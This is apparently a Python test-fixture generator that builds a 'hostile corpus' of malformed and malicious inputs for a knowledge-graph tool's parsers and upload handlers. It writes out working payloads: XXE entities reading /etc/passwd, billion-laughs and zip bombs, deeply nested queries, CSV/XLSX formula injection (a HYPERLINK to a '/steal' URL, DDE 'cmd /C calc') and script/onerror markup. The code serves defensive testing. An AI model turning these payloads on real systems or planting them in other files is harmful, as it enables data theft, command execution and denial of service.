"""Write the generated part of the hostile corpus (``python tests/hostile/generate.py``).

Most files here are written by hand.  Those that are big, repetitive or binary
(deeply nested queries and documents, entity bombs, crafted workbooks) are made by
this script, so that what they are is readable here; the output is committed, and
running the script again rewrites the same bytes.  Workbooks start from
``plan-table.xlsx``, the plan table as ``kgraph export-table`` writes it.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
SPARQL = HERE / "sparql"
UPLOADS = HERE / "uploads"

RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
DEEP = 5000


def nested_queries() -> dict[str, str]:
    """Queries whose nesting crashed Oxigraph's recursive parser (refused: 400)."""
    n = DEEP
    return {
        "nested-braces-5000.rq": "SELECT * WHERE " + "{" * n + "}" * n,
        "nested-parentheses-5000.rq": "ASK { FILTER(" + "(" * n + "true" + ")" * n + ") }",
        "nested-blank-nodes-5000.rq": "SELECT * WHERE { ?s <urn:p> "
        + "[ <urn:p> " * n + "1" + " ]" * n + " }",
        "nested-collections-5000.rq": "SELECT * WHERE { ?s <urn:p> "
        + "(" * n + "1" + ")" * n + " }",
        "nested-optional-5000.rq": "SELECT * WHERE { " + "OPTIONAL { " * n + "}" * n + " }",
        "nested-functions-1000.rq": "SELECT * WHERE { BIND("
        + "STR(" * 1000 + "1" + ")" * 1000 + " AS ?x) }",
        "nested-subqueries-1000.rq": "SELECT * WHERE { "
        + "{ SELECT * WHERE " * 1000 + "{}" + " }" * 2000,
        "nested-path-5000.rq": "SELECT * WHERE { ?s " + "(" * n + "<urn:p>" + ")" * n + " ?o }",
    }


def chained_queries() -> dict[str, str]:
    """Flat but very long chains: once a crash of the executor, now answered or cut."""
    return {
        "plus-chain-20000.rq": "SELECT * WHERE { BIND(" + "+".join(["1"] * 20000) + " AS ?x) }",
        "union-chain-20000.rq": "SELECT * WHERE { " + " UNION ".join(["{}"] * 20000) + " }",
        "and-chain-20000.rq": "ASK { FILTER(" + " && ".join(["true"] * 20000) + ") }",
        "path-sequence-2000.rq": "SELECT (COUNT(*) AS ?n) WHERE { ?s "
        + "/".join(["<urn:p>"] * 2000) + " ?o }",
    }


def nested_jsonld(depth: int) -> bytes:
    head = '{"http://e/p":'
    return ('{"@id":"http://e/s","http://e/p":' + head * depth + "1" + "}" * (depth + 1)).encode()


def nested_rdfxml(depth: int) -> bytes:
    return (
        f'<rdf:RDF xmlns:rdf="{RDF}" xmlns:e="http://e/"><e:N>'
        + "<e:p><e:N>" * depth + "</e:N></e:p>" * depth + "</e:N></rdf:RDF>"
    ).encode()


def billion_laughs_rdfxml() -> bytes:
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">\n' + "".join(
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">\n' for i in range(1, 10)
    )
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + entities + "]>\n"
        f'<rdf:RDF xmlns:rdf="{RDF}" xmlns:ex="http://example.org/">\n'
        '<rdf:Description rdf:about="http://example.org/s"><ex:p>&lol9;</ex:p>'
        "</rdf:Description>\n</rdf:RDF>\n"
    ).encode()


def external_entity_rdfxml() -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n'
        f'<rdf:RDF xmlns:rdf="{RDF}" xmlns:ex="http://example.org/">\n'
        '<rdf:Description rdf:about="http://example.org/s"><ex:p>&x;</ex:p>'
        "</rdf:Description>\n</rdf:RDF>\n"
    ).encode()


def rewrite_workbook(replace: dict[str, bytes] | None = None,
                     extra: dict[str, bytes] | None = None) -> bytes:
    """``plan-table.xlsx`` with some parts replaced or added."""
    source = zipfile.ZipFile(UPLOADS / "plan-table.xlsx")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = (replace or {}).get(info.filename) or source.read(info.filename)
            target.writestr(zipfile.ZipInfo(info.filename, (2020, 1, 1, 0, 0, 0)), data,
                            zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            target.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data,
                            zipfile.ZIP_DEFLATED)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
FIRST_NAME = "水素戦略・カーボンニュートラル産業推進事業"
MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">'



def sheet_xml() -> str:
    """The first sheet's XML with non-ASCII text as characters: the writer may store it as
    character references (openpyxl does with lxml), which the edits below would miss."""
    sheet = zipfile.ZipFile(UPLOADS / "plan-table.xlsx").read(SHEET).decode()
    sheet = re.sub(r"&#([0-9]+);",
                   lambda m: chr(int(m.group(1))) if int(m.group(1)) > 127 else m.group(0),
                   sheet)
    assert FIRST_NAME in sheet, "the table's first entry moved: update FIRST_NAME"
    return sheet


def sheet_with(doctype: str, cell_text: str) -> bytes:
    return (doctype + sheet_xml().replace(FIRST_NAME, cell_text, 1)).encode()


def workbooks() -> dict[str, bytes]:
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)
    )
    formula_sheet = (
        sheet_xml().replace(
            f'<c r="D3" s="4" t="inlineStr"><is><t>{FIRST_NAME}</t></is></c>',
            '<c r="D3" s="4"><f>HYPERLINK("http://127.0.0.1/steal?"&amp;A1,"click")</f>'
            "<v>click</v></c>",
            1,
        )
    )
    return {
        "billion-laughs.xlsx": rewrite_workbook(
            {SHEET: sheet_with(f"<!DOCTYPE worksheet [{entities}]>", "&lol9;")}
        ),
        "external-entity.xlsx": rewrite_workbook(
            {SHEET: sheet_with('<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                               "&x;")}
        ),
        "formula-cell.xlsx": rewrite_workbook({SHEET: formula_sheet.encode()}),
        # 200 MB of zeros in one extra part: the archive is small, its content is not.
        "zip-bomb.xlsx": rewrite_workbook(extra={"xl/media/zeros.bin": bytes(200 * 1024 * 1024)}),
    }


def tables() -> dict[str, bytes]:
    """``plan-table.csv`` broken the ways spreadsheets break (each refused with its place)."""
    text = (UPLOADS / "plan-table.csv").read_text(encoding="utf-8-sig")
    lines = text.split("\n")
    first = lines[2]
    with_cell = lambda cell: "\n".join(  # noqa: E731 - a one-line recipe
        [*lines[:2], first.replace(FIRST_NAME, cell, 1), *lines[3:]]
    )
    return {
        "formula.csv": with_cell('=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")').encode(),
        "formula-dde.csv": with_cell("=cmd|' /C calc'!A0").encode(),
        "formula-plus.csv": with_cell("+1+cmd|' /C calc'!A0").encode(),
        "formula-at.csv": with_cell("@SUM(1+1)*cmd|' /C calc'!A0").encode(),
        "shift-jis.csv": text.encode("cp932", "replace"),
        "utf-16.csv": text.encode("utf-16"),
        "mojibake.csv": with_cell(FIRST_NAME.encode("utf-8").decode("cp1252", "replace")).encode(),
        "nul.csv": with_cell(FIRST_NAME + "\x00").encode(),
        "truncated-utf8.csv": text.encode("utf-8")[:1001],
        "huge-field.csv": with_cell("x" * 200_000).encode(),
        "binary.csv": bytes(range(256)) * 16,
        "script-in-cell.csv": with_cell(MARKUP).encode(),
    }


def main() -> None:
    for name, text in nested_queries().items():
        (SPARQL / "malformed" / name).write_text(text + "\n", encoding="utf-8")
    for name, text in chained_queries().items():
        (SPARQL / "heavy" / name).write_text(text + "\n", encoding="utf-8")
    files = {
        "nested-12000.jsonld": nested_jsonld(12000),
        "nested-3000.jsonld": nested_jsonld(3000),
        "nested-elements-10000.rdf": nested_rdfxml(10000),
        # 250 KB that parse to 250,000 statements (a list of 125,000 ones)
        "long-list-125000.ttl": b"<http://e/s> <http://e/p> ( " + b"1 " * 125_000 + b") .\n",
        "billion-laughs.rdf": billion_laughs_rdfxml(),
        "external-entity.rdf": external_entity_rdfxml(),
        **workbooks(),
        **tables(),
    }
    for name, data in files.items():
        (UPLOADS / name).write_bytes(data)


if __name__ == "__main__":
    main()
